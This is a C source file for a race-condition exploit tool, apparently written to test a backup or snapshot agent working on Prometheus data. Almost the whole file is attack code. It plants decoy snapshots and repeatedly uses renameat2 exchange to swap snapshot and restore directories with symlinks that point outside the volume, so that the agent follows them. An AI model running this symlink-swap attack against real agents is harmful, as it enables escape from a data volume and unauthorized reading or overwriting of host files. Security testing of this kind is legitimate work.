// This program races the agent from Prometheus' container. It exchanges a directory of a snapshot with a link that
// leads out of the volume, and back, as fast as it can and at random moments, until standard input ends. It prints a
// line for each snapshot that it has attacked.
//   swapper wait DATA OUTSIDE ULID    attacks each snapshot that Prometheus makes
//   swapper plant DATA OUTSIDE ULID   makes snapshots itself, and attacks each until it is gone
//   swapper restore DATA OUTSIDE ULID attacks each directory that a restore into DATA makes
// OUTSIDE/ULID/chunks mirrors a block, so that a program that follows the link finds the expected names.
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

enum { FILES = 24, WINDOW_MS = 120, MAX_SNAPSHOTS = 4096 };
static const char *data, *outside, *ulid;
static char snapshots[PATH_MAX], decoy[PATH_MAX];

static double now(void) {
  struct timespec time;
  clock_gettime(CLOCK_MONOTONIC, &time);
  return time.tv_sec * 1e3 + time.tv_nsec / 1e6;
}

static int is_over(void) {
  struct pollfd input = {.fd = 0, .events = POLLIN};
  return poll(&input, 1, 0) > 0;
}

static int exists(const char *path) {
  struct stat status;
  return lstat(path, &status) == 0;
}

static void delete(const char *path) {
  char command[PATH_MAX + 32];
  snprintf(command, sizeof command, "rm -rf -- '%s' 2>/dev/null", path);
  if (exists(path) && system(command)) return;
}

static void exchange_until(const char *directory, double end) {
  int swapped = 0;
  long exchanges = 0;
  while (now() < end && exists(directory)) {
    if (renameat2(AT_FDCWD, directory, AT_FDCWD, decoy, RENAME_EXCHANGE) == 0) {
      exchanges++;
      swapped = !swapped;
    }
    for (volatile int spin = rand() % 4000; spin > 0; spin--);
  }
  if (swapped) renameat2(AT_FDCWD, directory, AT_FDCWD, decoy, RENAME_EXCHANGE);
  if (exchanges) printf("%ld exchanges\n", exchanges);
  fflush(stdout);
}

static void attack(const char *name) {
  char directory[PATH_MAX + NAME_MAX], destination[PATH_MAX];
  const char *const parts[] = {"", "/%s", "/%s/chunks"};
  int part = rand() % 3;
  snprintf(destination, sizeof destination, parts[part], ulid);
  snprintf(directory, sizeof directory, "%s/%s%s", snapshots, name, destination);
  memmove(destination + strlen(outside), destination, strlen(destination) + 1);
  memcpy(destination, outside, strlen(outside));
  delete (decoy);
  if (symlink(destination, decoy)) perror(decoy);
  usleep(rand() % 8000);
  exchange_until(directory, now() + rand() % WINDOW_MS);
}

// The names don't show which snapshot is newer.
static int is_new(const char *name) {
  static char *seen[MAX_SNAPSHOTS];
  static int count;
  for (int i = 0; i < count; i++)
    if (!strcmp(seen[i], name)) return 0;
  if (count < MAX_SNAPSHOTS) seen[count++] = strdup(name);
  return 1;
}

// Finds a snapshot that was not attacked yet and has the block.
static int find(char *name) {
  int found = 0;
  char block[PATH_MAX + NAME_MAX];
  DIR *directory = opendir(snapshots);
  for (struct dirent *entry; !found && directory && (entry = readdir(directory));) {
    snprintf(block, sizeof block, "%s/%s/%s/meta.json", snapshots, entry->d_name, ulid);
    if (*entry->d_name != '.' && exists(block) && is_new(entry->d_name)) found = !!strcpy(name, entry->d_name);
  }
  if (directory) closedir(directory);
  return found;
}

static void wait_for_snapshots(void) {
  char name[NAME_MAX + 1];
  while (!is_over()) find(name) ? attack(name) : usleep(200);
}

static void plant(const char *name) {
  char spare[PATH_MAX], path[PATH_MAX + NAME_MAX];
  snprintf(spare, sizeof spare, "%s/spare", data);
  delete (spare);
  mkdir(spare, 0755);
  snprintf(path, sizeof path, "%s/%s", spare, ulid);
  mkdir(path, 0755);
  strcat(path, "/chunks");
  mkdir(path, 0755);
  for (int i = 1; i <= FILES; i++) {
    snprintf(path, sizeof path, "%s/%s/chunks/%06d", spare, ulid, i);
    close(open(path, O_WRONLY | O_CREAT, 0644));
  }
  mkdir(snapshots, 0755);
  snprintf(path, sizeof path, "%s/%s", snapshots, name);
  if (rename(spare, path)) perror(path);
}

static void plant_snapshots(void) {
  const char *name = "20250820T165101Z-0eb533ff8d43ed64";
  char path[PATH_MAX + NAME_MAX];
  snprintf(path, sizeof path, "%s/%s", snapshots, name);
  while (!is_over()) {
    delete (path);
    plant(name);
    attack(name);
    for (double end = now() + WINDOW_MS; now() < end && exists(path);) usleep(500);
  }
}

// The links lie beside DATA, which must look empty.
static void attack_restores(void) {
  char path[PATH_MAX + NAME_MAX];
  for (int decoys = 0; !is_over();) {
    DIR *directory = opendir(data);
    for (struct dirent *entry; directory && (entry = readdir(directory));) {
      if (!strcmp(entry->d_name, ".") || !strcmp(entry->d_name, "..")) continue;
      snprintf(path, sizeof path, "%s/%s", data, entry->d_name);
      snprintf(decoy, sizeof decoy, "%s-decoy%d", data, decoys++);
      if (symlink(outside, decoy)) perror(decoy);
      exchange_until(path, now() + rand() % 40);
      unlink(decoy);
    }
    if (directory) closedir(directory);
  }
}

int main(int count, char **arguments) {
  if (count != 5) return 2;
  data = arguments[2], outside = arguments[3], ulid = arguments[4];
  snprintf(snapshots, sizeof snapshots, "%s/snapshots", data);
  snprintf(decoy, sizeof decoy, "%s/decoy", data);
  srand(time(NULL) ^ getpid());
  if (!strcmp(arguments[1], "restore")) attack_restores();
  else if (!strcmp(arguments[1], "plant")) plant_snapshots();
  else wait_for_snapshots();
  delete (decoy);
  return 0;
}
